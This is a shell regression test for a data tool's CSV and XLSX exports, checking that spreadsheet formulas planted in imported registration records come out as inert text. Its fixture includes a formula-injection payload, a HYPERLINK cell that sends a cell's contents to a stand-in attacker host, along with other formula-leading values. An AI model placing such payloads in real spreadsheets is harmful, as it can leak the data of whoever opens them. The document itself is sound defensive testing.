#!/usr/bin/env bash
# Spreadsheet formulas planted in department data never come out as formulas (issue
# 8 finding 4): CSV exports (command line and server) write such cells as text with a
# leading apostrophe; XLSX writes every cell as a string, never as a formula (<f>).
set -u
g=$1
ex=$2
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*"; exit 1; }
command -v unzip > /dev/null || fail "unzip is missing (scripts/deps.sh --test installs it)"
. "$(dirname "$0")/../lib/db.sh" # db_new, dbq: the store on either backend
GETIHU_DB=$(db_new "$tmp/t.db") || { echo "FAIL: no database for the store"; exit 1; }
export GETIHU_DB GETIHU_ACTOR=test
"$g" db init > /dev/null || { echo "FAIL: getihu db init"; exit 1; }
cat > "$tmp/reg.csv" <<'CSV'
uscc,name,established,status,town
92110115MA00001014,"=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",2015-05-12,在营,=1+1镇
92110115MA00001027,+SUM(1),2015-05-12,在营,-2
92110115MA0000103A,@cmd,2015-05-12,在营,黄村镇
CSV
"$g" import --source registration "$tmp/reg.csv" > /dev/null 2>&1 || fail import
"$g" run --year 2025 > /dev/null 2>&1 && "$g" publish --run 1 > /dev/null 2>&1 || fail run
"$g" export --year 2025 --format csv --output "$tmp/r.csv" 2> /dev/null || fail "csv export"
grep -q "\"'=HYPERLINK(\"\"http://evil.example" "$tmp/r.csv" || fail "the HYPERLINK name is not neutralised: $(cat "$tmp/r.csv")"
grep -q "\"'=1+1镇\"" "$tmp/r.csv" || fail "the town is not neutralised"
grep -q "\"'+SUM(1)\"" "$tmp/r.csv" && grep -q "\"'@cmd\"" "$tmp/r.csv" && grep -q "\"'-2\"" "$tmp/r.csv" || fail "+ @ - cells"
if grep -E '(^|,)[=+@-]' "$tmp/r.csv" | grep -q .; then fail "a cell starts with a formula character"; fi
"$g" export --year 2025 --format xlsx --output "$tmp/r.xlsx" 2> /dev/null || fail "xlsx export"
unzip -p "$tmp/r.xlsx" xl/worksheets/sheet1.xml > "$tmp/sheet.xml" || fail "xlsx unreadable"
grep -q '=HYPERLINK' "$tmp/sheet.xml" || fail "xlsx lacks the name as text"
if grep -q '<f>' "$tmp/sheet.xml"; then fail "xlsx holds a formula"; fi
echo "export_formulas: ok"
